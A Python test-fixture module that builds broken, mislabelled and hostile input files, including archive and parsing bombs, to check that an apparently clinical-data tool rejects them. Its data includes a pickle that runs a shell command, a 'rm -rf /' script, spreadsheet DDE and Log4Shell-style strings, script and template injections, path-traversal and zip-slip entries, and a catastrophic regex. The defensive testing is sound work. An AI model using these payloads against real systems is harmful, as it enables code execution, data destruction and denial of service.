"""Files that somebody might give the product by mistake or with intent, drawn as bytes.

``draw_cases`` gives the broken and the mistaken, ``draw_bombs`` those made to exhaust a reader. A
file's name says which it pretends to be: ``dataset.toml`` and ``mapping.toml`` stand beside honest
tables, every other one alone.
"""

import bz2
import gzip
import io
import json
import lzma
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter
from pptx import Presentation

from tests.archive_bombs import BOMBS, HONEST, blanks, pack, with_parts, with_rows

INPUTS = Path(__file__).parent / "data" / "inputs"
EXPORT = INPUTS / "redcap-example"
SEED = 20_261_126
# Unpickled, each of these would leave a file of this name in the working folder.
CANARY = "unpickled-canary"
PICKLE = b"cos\nsystem\n(S'touch " + CANARY.encode() + b"'\ntR."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    '=HYPERLINK("http://x.example")',
)


@dataclass(frozen=True, slots=True)
class Case:
    """One file. ``name``: what is wrong with it."""

    name: str
    filename: str
    content: bytes


def draw_cases() -> tuple[Case, ...]:
    """More than two hundred files, always the same."""
    makers = (
        cut_short, with_bytes_changed, under_another_name, in_other_encodings, of_odd_shape,
        odd_workbooks, odd_archives, odd_parquet, odd_toml,
    )  # fmt: skip
    return tuple(case for maker in makers for case in maker())


def draw_bombs() -> tuple[Case, ...]:
    """Small files that ask for much memory or time: every one is to be refused."""
    stata = bytearray(honest()["dta"])
    return (
        *(Case(name, "bomb.xlsx", make()) for name, (make, _) in BOMBS.items()),
        Case("a template of blanks", "bomb.pptx", _presentation({"ppt/media/a.png": blanks(60)})),
        Case(
            "a template with entities",
            "bomb.pptx",
            _presentation(
                {"ppt/theme/theme9.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;&b;&b;</a>'}
            ),
        ),
        Case("Parquet of one value", "bomb.parquet", _repeated()),
        Case("TOML nested for ever", "dataset.toml", b"a = " + b"[" * 100_000),
        Case("a mapping nested for ever", "mapping.toml", b"a = " + b"[" * 100_000),
        Case("a key of very many parts", "dataset.toml", b".".join([b"a"] * 50_000) + b" = 1"),
        Case("a number of very many digits", "dataset.toml", b"a = " + b"9" * 1_000_000),
        Case("a million columns", "bomb.csv", b"," * 1_000_000 + b"\n" + b"," * 1_000_000),
        Case("gzip of blanks", "bomb.csv.gz", gzip.compress(blanks(60))),
        Case("gzip that calls itself CSV", "bomb.csv", gzip.compress(blanks(60))),
        Case("Stata of very many rows", "bomb.dta", _with_rows_said(bytes(stata), 2**40)),
    )


@cache
def honest() -> dict[str, bytes]:
    """A readable file of each kind, by suffix."""
    export = (EXPORT / "export_raw.csv").read_bytes()
    frame = pd.read_csv(io.BytesIO(export), dtype=str, keep_default_na=False).iloc[:60, :40]
    parquet, stata, book = io.BytesIO(), io.BytesIO(), io.BytesIO()
    frame.to_parquet(parquet, index=False)
    frame.to_stata(stata, write_index=False, version=118)
    with xlsxwriter.Workbook(book) as made:
        made.add_worksheet("dataset").write_column(0, 0, ["title", "study", "data_cut"])
        made.get_worksheet_by_name("dataset").write_column(0, 1, ["A", "nct07215754", "2026-06-30"])
        rows = {
            "patients": (
                ("patient_id", "centre", "index_date", "last_contact_date"),
                ("1", "Pisa", "2024-01-10", "2026-06-20"),
            ),
            "visits": (("patient_id", "visit_date"), ("1", "2024-01-10")),
        }
        for name, cells in rows.items():
            sheet = made.add_worksheet(name)
            for at, row in enumerate(cells):
                sheet.write_row(at, 0, row)
    return {
        "csv": export,
        "xlsx": book.getvalue(),
        "parquet": parquet.getvalue(),
        "dta": stata.getvalue(),
    }


def cut_short() -> Iterator[Case]:
    """Every kind, cut at several lengths."""
    for suffix, content in honest().items():
        for share in (0, 0.001, 0.02, 0.2, 0.5, 0.8, 0.97, 0.9999):
            length = int(share * len(content))
            yield Case(f"{suffix} cut at {length}", f"cut.{suffix}", content[:length])


def with_bytes_changed() -> Iterator[Case]:
    """Every kind with some bytes changed, and random bytes under its name."""
    rng = np.random.default_rng(SEED)
    for suffix, content in honest().items():
        for at in range(8):
            changed = np.frombuffer(content, np.uint8).copy()
            where = rng.integers(0, len(content), 1 + 3 * at)
            changed[where] = rng.integers(0, 256, len(where))
            yield Case(
                f"{suffix} with {len(where)} bytes changed", f"a.{suffix}", changed.tobytes()
            )
        yield Case(f"random bytes as {suffix}", f"random.{suffix}", rng.bytes(20_000))
        yield Case(f"NUL bytes as {suffix}", f"nul.{suffix}", bytes(20_000))


def under_another_name() -> Iterator[Case]:
    """What is not what its name says."""
    page = b"<html><head><title>Sign in</title></head><body><table><tr><td>1</table></body></html>"
    contents = {
        "HTML": page,
        "an XML spreadsheet": b'<?xml version="1.0"?><Workbook xmlns="urn:x"><Row/></Workbook>',
        "JSON": json.dumps([{"patient_id": 1}]).encode(),
        "a PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0 obj\n" * 50,
        "a PNG": b"\x89PNG\r\n\x1a\n" + bytes(100),
        "a pickle": PICKLE,
        "a pickle of protocol 5": b"\x80\x05\x95" + bytes(8) + PICKLE,
        "joblib": b"\x80\x04\x95" + bytes(8) + b"\x8c\x05numpy" + PICKLE,
        "zlib of a pickle": b"x\x9c" + PICKLE,
        "RDS": gzip.compress(b"X\n\x00\x00\x00\x03" + bytes(50)),
        "RDS, not packed": b"X\n\x00\x00\x00\x03\x00\x04\x02\x01" + bytes(50),
        "RData": gzip.compress(b"RDX3\nX\n" + bytes(50)),
        "SAS": bytes(12) + b"\xc2\xea\x81\x60" + bytes(1_000),
        "SPSS": b"$FL2@(#) SPSS DATA FILE" + bytes(500),
        "bzip2": bz2.compress(b"a,b\n1,2\n"),
        "xz": lzma.compress(b"a,b\n1,2\n"),
        "an old workbook": OLE + bytes(2_000),
        "a workbook with a password": OLE + "EncryptedPackage".encode("utf-16-le") + bytes(2_000),
        "a pointer of Git LFS": b"version https://git-lfs\noid sha256:0\nsize 1\n",
        "SQLite": b"SQLite format 3\0" + bytes(200),
        "a script": b"#!/bin/sh\nrm -rf /\n",
    } | {f"honest {suffix}": content for suffix, content in honest().items()}
    for what, content in contents.items():
        for suffix in ("csv", "xlsx", "dta", "parquet"):
            if what != f"honest {suffix}":
                yield Case(f"{what} called .{suffix}", f"called.{suffix}", content)
    for suffix in ("xls", "xlsb", "ods", "rds", "pkl", "joblib", "sav", "zip", "html", "txt", ""):
        yield Case(f"a CSV called .{suffix}", f"called.{suffix}", b"a,b\n1,2\n")


def in_other_encodings() -> Iterator[Case]:
    """The same table in what editors and registries save."""
    text = "patient_id,centre,visit_date\n1,Zürich “a” – ß,2024-01-10\n2,Málaga €,2024-02-10\n"
    for encoding in (
        "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "cp1252", "utf-7",
    ):  # fmt: skip
        yield Case(f"in {encoding}", "encoded.csv", text.encode(encoding))
    plain = text.encode("ascii", "ignore")
    for encoding in ("cp037", "shift_jis"):
        yield Case(f"in {encoding}", "encoded.csv", plain.decode().encode(encoding) + b"\x81\xff")
    whole = text.encode("utf-16")
    yield Case("half UTF-16", "encoded.csv", whole[: len(whole) // 2] + plain)
    yield Case("UTF-16 of odd length", "encoded.csv", whole[:-1])
    yield Case("a lone surrogate", "encoded.csv", plain + b"3,\xed\xa0\x80,2024-01-01\n")
    yield Case("an overlong slash", "encoded.csv", plain + b"3,\xc0\xaf,2024-01-01\n")
    yield Case("two encodings", "encoded.csv", text.encode() + text.encode("cp1252"))
    yield Case("decoded twice", "encoded.csv", text.encode().decode("cp1252", "ignore").encode())
    yield Case("a byte-order mark only", "encoded.csv", b"\xef\xbb\xbf")
    yield Case("a mark of UTF-16 only", "encoded.csv", b"\xff\xfe")
    yield Case("a mark within", "encoded.csv", plain + b"\xef\xbb\xbf3,a,2024-01-01\n")
    yield Case("text that runs backwards", "encoded.csv", text.replace("Z", "\u202e").encode())
    yield Case("a NUL in a cell", "encoded.csv", plain + b"3,a\0b,2024-01-01\n")


def of_odd_shape() -> Iterator[Case]:
    """Delimited text that is no table, or a strange one."""
    wide = [f"c{at}" for at in range(10_000)]
    shapes = {
        "empty": "",
        "one blank": " ",
        "line ends only": "\n" * 5_000,
        "commas only": ",,,\n,,,\n",
        "a header only": "patient_id,visit_date\n",
        "a header without its line end": "patient_id,visit_date",
        "no header": "1,2024-01-10\n2,2024-02-10\n",
        "a name twice": "patient_id,visit_date,patient_id\n1,2024-01-10,2\n",
        "every name twice": ",".join(["a", "b"] * 200) + "\n",
        "a column without a name": "patient_id,,visit_date\n1,x,2024-01-10\n",
        "ten thousand columns": ",".join(wide) + "\n" + ",".join(["1"] * 10_000) + "\n",
        "rows of unequal length": "a,b,c\n1,2\n1,2,3,4\n",
        "a quotation that never ends": 'a,b\n1,"2\n3,4\n',
        "quotations within": 'a,b\n1,x"y"z\n"2"3,4\n',
        "only quotation marks": '"' * 5_001,
        "carriage returns only": "a,b\r1,2\r3,4\r",
        "one very long cell": "a,b\n" + "x" * 1_000_000 + ",1\n",
        "one very long name": "x" * 500_000 + ",b\n1,2\n",
        "a hundred thousand blank rows": "a,b\n" + ",\n" * 100_000,
        "two delimiters": "a;b,c\n1;2,3\n",
        "formulas": "patient_id,centre\n" + "".join(f'1,"{f}"\n' for f in FORMULAS[:-1]),
        "formulas as names": ",".join(f'"{f}"' for f in FORMULAS[:-1]) + "\n1,2,3,4,5\n",
        "names of Python": "__class__,__init__,self,frame\n1,2,3,4\n",
        "names of the dictionary, odd values": (
            "patient_id,visit_date,physician_ga,rash\n1,today,1e999,maybe\n2,now,nan,NaN\n"
            "3,2024-02-30,-inf,TRUE\n4,99999-01-01,٣,1.0\n"
        ),
        "keys of REDCap only": "redcap_event_name,redcap_repeat_instrument\nbaseline,\n",
        "REDCap without its record": "redcap_event_name,visit_date\nbaseline_arm_1,2024-01-10\n",
        "escape sequences": "a,b\n\x1b[31mred,\x07\n",
        "markup": "a,b\n<script>alert(1)</script>,![](http://x.example/y.png)\n",
        "format strings": "a,b\n{0.__class__},%s%n\n${jndi:ldap://x.example},{{7*7}}\n",
        "paths": "a,b\n../../etc/passwd,file:///etc/passwd\n",
    }
    for name, text in shapes.items():
        yield Case(name, "shape.csv", text.encode("utf-8"))
    for name in ("export_eav.csv", "export_labels.csv"):
        yield Case(f"REDCap {name}", name, (EXPORT / name).read_bytes())


def odd_workbooks() -> Iterator[Case]:
    """Workbooks whose sheets are not what sheets are."""
    cells = {
        "a shared text that is not there": '<row r="1"><c r="A1" t="s"><v>99</v></c></row>',
        "a shared text before the first": '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>',
        "a shared text by a word": '<row r="1"><c r="A1" t="s"><v>one</v></c></row>',
        "row zero": '<row r="0"><c r="A0"><v>1</v></c></row>',
        "a row below zero": '<row r="-1"><c r="A-1"><v>1</v></c></row>',
        "a cell without a column": '<row r="1"><c r="1"><v>1</v></c></row>',
        "a column beyond the last": '<row r="1"><c r="ZZZZ1"><v>1</v></c></row>',
        "a row beyond all numbers": '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>',
        "a number beyond all": '<row r="1"><c r="A1"><v>1e999</v></c></row>',
        "a number that is none": '<row r="1"><c r="A1"><v>many</v></c></row>',
        "a day beyond all": '<row r="1"><c r="A1" t="d"><v>99999-99-99</v></c></row>',
        "a kind that is none": '<row r="1"><c r="A1" t="zz"><v>1</v></c></row>',
        "rows in no order": '<row r="9"><c r="A9"/></row><row r="2"><c r="B1"><v>1</v></c></row>',
        "markup that is not closed": '<row r="1"><c r="A1"><v>1</v>',
        "deep nesting": "<row>" * 20_000 + "</row>" * 20_000,
        "a comment in a cell": '<row r="1"><c r="A1"><!-- --><v>1</v></c></row>',
        "text in the cell": '<row r="1"><c r="A1" t="inlineStr"><is><t>=1</t></is></c></row>',
    }
    for name, rows in cells.items():
        yield Case(name, "sheet.xlsx", with_parts(with_rows(rows)))
    book, relations = HONEST["xl/workbook.xml"], HONEST["xl/_rels/workbook.xml.rels"]
    parts = {
        "a workbook that is empty": {"xl/workbook.xml": b""},
        "a workbook of random bytes": {"xl/workbook.xml": bytes(range(256))},
        "no relations": {"xl/_rels/workbook.xml.rels": b""},
        "relations to elsewhere": {
            "xl/_rels/workbook.xml.rels": relations.replace(
                b"worksheets/sheet1.xml", b"http://x.example/sheet1.xml"
            )
        },
        "relations to the system": {
            "xl/_rels/workbook.xml.rels": relations.replace(
                b"worksheets/sheet1.xml", b"../../../../etc/passwd"
            )
        },
        "a sheet that is not there": {"xl/workbook.xml": book.replace(b"rId1", b"rId999")},
        "a sheet without a name": {"xl/workbook.xml": book.replace(b'name="visits"', b"")},
        "a sheet called after markup": {
            "xl/workbook.xml": book.replace(b'"visits"', b'"&lt;script&gt;"')
        },
        "macros": {"xl/vbaProject.bin": OLE + bytes(500)},
        "an external link": {
            "xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>"
        },
        "an entry called ..": {"../../../tmp/" + CANARY: b"x"},
        "an entry called from the root": {"/tmp/" + CANARY: b"x"},
        "an entry with a backslash": {"..\\..\\" + CANARY: b"x"},
        "an entry with a NUL": {"xl/a\0b.xml": b"<a/>"},
        "an entry with a very long name": {"x" * 60_000: b"x"},
    }
    for name, changed in parts.items():
        yield Case(name, "book.xlsx", with_parts(changed))
        if name == "macros":
            yield Case("macros, called so", "book.xlsm", with_parts(changed))


def odd_archives() -> Iterator[Case]:
    """Archives that lie about their entries."""
    link = zipfile.ZipInfo("xl/link.xml")
    link.external_attr = 0o120777 << 16
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in HONEST.items():
            archive.writestr(name, content)
        archive.writestr(link, "/etc/passwd")
    yield Case("an entry that is a link", "archive.xlsx", made.getvalue())
    whole = bytearray(pack(dict(HONEST)))
    at = whole.index(b"PK\x01\x02")
    for name, offset, value in (
        ("an entry with a password", 8, 1),
        ("an unknown packing", 10, 99),
        ("an entry beyond the file", 42, 0x7FFF),
    ):
        changed = bytearray(whole)
        struct.pack_into("<H", changed, at + offset, value)
        yield Case(name, "archive.xlsx", bytes(changed))
    yield Case("bytes before the archive", "archive.xlsx", b"MZ" + bytes(100) + bytes(whole))
    yield Case("bytes behind the archive", "archive.xlsx", bytes(whole) + b"\0" * 1_000)
    yield Case("two archives in one", "archive.xlsx", bytes(whole) + bytes(whole))
    yield Case("an empty archive", "archive.xlsx", b"PK\x05\x06" + bytes(18))
    yield Case("an archive of an export", "archive.zip", pack({"export.csv": b"a,b\n1,2\n"}))
    yield Case("an archive of ..", "archive.zip", pack({"../../" + CANARY: b"x"}))
    yield Case("an archive called CSV", "archive.csv", pack({"export.csv": b"a,b\n1,2\n"}))
    yield Case("a template that is a workbook", "template.pptx", pack(dict(HONEST)))
    yield Case("a template that is empty", "template.pptx", b"")
    yield Case("a template of random bytes", "template.pptx", bytes(range(256)) * 9)
    yield Case(
        "a template without layouts", "template.pptx", pack({"ppt/presentation.xml": b"<a/>"})
    )


def odd_parquet() -> Iterator[Case]:
    """Parquet of columns that no table of ours has."""
    tables = {
        "lists": pa.table({"patient_id": [[1, 2], [3]]}),
        "structures": pa.table({"patient_id": [{"a": 1}, {"a": None}]}),
        "bytes": pa.table({"patient_id": [b"\xff\x00", b"\x80"]}),
        "decimals": pa.table({"patient_id": pa.array([1, 2], pa.decimal128(30, 10))}),
        "moments": pa.table({"visit_date": pa.array([2**62], pa.timestamp("us", "Asia/Tokyo"))}),
        "times of day": pa.table({"visit_date": pa.array([1], pa.time64("ns"))}),
        "durations": pa.table({"visit_date": pa.array([1], pa.duration("s"))}),
        "nothing": pa.table({"patient_id": pa.nulls(3)}),
        "no columns": pa.table({}),
        "no rows": pa.table({"patient_id": pa.array([], pa.string())}),
        "infinite numbers": pa.table({"physician_ga": [float("inf"), float("nan"), -0.0]}),
        "huge whole numbers": pa.table({"patient_id": pa.array([2**64 - 1], pa.uint64())}),
        "a name twice": pa.table([pa.array([1]), pa.array([2])], names=["a", "a"]),
        "an empty name": pa.table({"": [1]}),
        "an index of pandas that is not there": pa.table({"a": [1]}).replace_schema_metadata(
            {"pandas": '{"index_columns": ["gone"], "columns": [], "column_indexes": []}'}
        ),
        "metadata that is no JSON": pa.table({"a": [1]}).replace_schema_metadata({"pandas": "{"}),
    }
    for name, table in tables.items():
        made = io.BytesIO()
        pq.write_table(table, made)
        yield Case(f"Parquet of {name}", "odd.parquet", made.getvalue())


def odd_toml() -> Iterator[Case]:
    """What a dataset says of itself, and mappings, that say nothing or too much."""
    texts = {
        "empty": "",
        "no TOML": "title is A",
        "a key twice": 'title = "a"\ntitle = "b"\n',
        "a section of a value": "title = 1\n[title]\nx = 1\n",
        "a title of many": 'title = ["a"]\nstudy = {a = 1}\ndata_cut = [2024-01-01]\n',
        "a number for all": "title = 1\nstudy = 2\ndata_cut = 3\n",
        "a day that is none": "data_cut = 2024-02-30\n",
        "a time of day": "data_cut = 12:00:00\n",
        "a moment": "data_cut = 2024-01-01T00:00:00Z\n",
        "infinite": "title = inf\ndata_cut = nan\n",
        "ten thousand digits": f"title = {'9' * 10_000}\n",
        "a very deep table": f"[{'.'.join('a' * 900)}]\n",
        "very many tables": "".join(f"[t{at}]\na = 1\n" for at in range(3_000)),
        "an assumption that is none": "[assume]\nplanet = true\nrash = [1]\n",
        "tables of the dictionary as words": 'patients = "x"\nvisits = []\ninfusions = 1\n',
        "a pattern that never ends": f'[patients]\npatient_id = {{ field = "{"(a+)+" * 20}" }}\n',
        "dates by a strange format": 'date_format = "%Q%%%n"\n[patients]\npatient_id = "a"\n',
        "a field that is markup": '[patients]\npatient_id = "<script>"\n',
    }
    for name, text in texts.items():
        for filename in ("dataset.toml", "mapping.toml"):
            yield Case(f"{filename}: {name}", filename, text.encode())
    for filename in ("dataset.toml", "mapping.toml"):
        yield Case(f"{filename} in UTF-16", filename, 'title = "a"'.encode("utf-16"))
        yield Case(f"{filename} of NUL bytes", filename, bytes(100))


def _presentation(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    Presentation().save(made)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _repeated() -> bytes:
    column = pa.DictionaryArray.from_arrays(pa.array(np.zeros(30_000_000, np.int8)), ["P1"])
    made = io.BytesIO()
    pq.write_table(pa.table({"patient_id": column}), made)
    return made.getvalue()


def _with_rows_said(stata: bytes, rows: int) -> bytes:
    """A Stata file whose head says that it has more rows."""
    at = stata.index(b"<N>") + 3
    return stata[:at] + struct.pack("<Q", rows) + stata[at + 8 :]
